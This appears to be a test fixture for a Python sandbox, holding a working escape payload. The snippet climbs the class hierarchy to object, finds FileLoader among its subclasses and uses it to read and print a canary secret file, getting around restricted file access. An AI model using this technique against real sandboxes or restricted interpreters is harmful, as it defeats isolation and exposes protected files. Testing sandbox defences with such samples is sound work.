# source: own
# effect: secret

class Walker:
    def start(self):
        return super().__thisclass__.__mro__[-1]


loaders = [kind for kind in Walker().start().__subclasses__() if kind.__name__ == "FileLoader"]
loader = loaders[0]("name", "/tmp/canary/secret")
print(loader.get_data("/tmp/canary/secret").decode())
